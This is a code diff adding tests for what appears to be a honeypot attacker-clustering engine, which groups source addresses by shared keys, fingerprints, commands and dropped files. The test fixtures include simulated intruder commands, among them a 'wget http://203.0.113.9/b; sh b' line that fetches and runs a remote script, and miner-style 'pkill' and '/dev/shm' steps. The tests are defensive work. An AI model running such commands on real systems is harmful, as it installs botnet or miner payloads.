@@ -8,14 +8,17 @@ from tests.decnet_workers.clusterer.scenes import (
     Follower,
     command,
     event,
+    file,
     groups,
     hassh,
     key,
     password,
     several,
+    stack,
     typing,
 )
 
+from decnet_core.events.catalogue import HttpRequest
 from decnet_core.events.typing_digest import TypingDigest
 
 A, B, C, D = (f"192.0.2.{number}" for number in range(1, 5))
@@ -74,3 +77,61 @@ def test_who_shows_the_marks_of_many_belongs_to_none_of_them(engine: Engine) -> 
     shown = [event(each, key(name)) for name, addresses in owners.items() for each in addresses]
     Follower(engine).run([*shown, *(event(A, key(name), 9) for name in owners)])
     assert several(engine) == groups(*owners.values())
+
+
+def test_a_mark_may_come_to_follow_a_core_whose_attackers_did_not_change(engine: Engine) -> None:
+    both = command("pgrep -f own-miner-of-two")
+    follower = Follower(engine).run(
+        [event(each, key(name)) for name, pair in (("k", (A, B)), ("l", (C, D))) for each in pair]
+    )
+    follower.run([event(each, both, 1) for each in (A, B, C, D)])
+    follower.run(
+        [event(D, key(name), 2) for name in ("x", "y")]
+    )  # D is nobody's now: two of three are of the first core
+    assert groups([A, B]) <= several(engine)
+
+
+def test_what_a_kit_brings_joins_its_users_neither_by_its_passwords_nor_by_its_commands(engine: Engine) -> None:
+    users = [f"198.51.{number}.7" for number in range(40)]
+    brought = [
+        *(password("root", f"kit-{number}") for number in range(4)),
+        *map(command, ("mkdir .kit", "cd .kit", "kit -x")),
+    ]
+    Follower(engine).run(
+        [event(each, shown, place) for place, each in enumerate(users) for shown in (*brought, hassh("kit"))]
+    )
+    assert several(engine) == set()
+
+
+def test_bots_of_one_family_are_not_one_though_they_fetch_the_same_file_from_the_same_place(engine: Engine) -> None:
+    bots = [f"198.51.{number}.7" for number in range(60)]
+    lines = [command(text) for text in ("enable", "busybox BOTS", "wget http://203.0.113.9/b; sh b")]
+    Follower(engine).run(
+        [
+            event(each, shown, 86_400 * place)
+            for place, each in enumerate(bots)
+            for shown in (*lines, file(f"{place % 3:064x}"))
+        ]
+    )
+    assert several(engine) == set()
+
+
+def test_a_script_joins_once_those_who_run_it_are_known_to_be_one(engine: Engine) -> None:
+    known = [f"198.51.100.{number}" for number in range(1, 13)]
+    script = [command(text) for text in ("mkdir .own", "cp own /dev/shm", "pkill rivals-of-mine", "touch mine-alone")]
+    logged = [event(each, key("one"), place) for place, each in enumerate(known)]
+    logged += [
+        event(each, shown, 86_400 * place)
+        for place, each in enumerate([*known, A, B, C, D])
+        for shown in script[place % 2 :]
+    ]
+    Follower(engine).run(logged)
+    assert several(engine) == groups([*known, A, B, C, D])
+
+
+def test_rare_tools_of_several_kinds_join_together_and_those_of_one_kind_do_not(engine: Engine) -> None:
+    crowd = [event(f"10.0.{number // 200}.{number % 200}", hassh(f"{number:032x}")) for number in range(300)]
+    web = HttpRequest(method="GET", target="/", user_agent="own/1")
+    several_kinds = [event(each, shown) for each in (A, B) for shown in (hassh("own"), web, stack("own"))]
+    Follower(engine).run([*crowd, *several_kinds, *(event(each, hassh("rare")) for each in (C, D))])
+    assert several(engine) == groups([A, B])
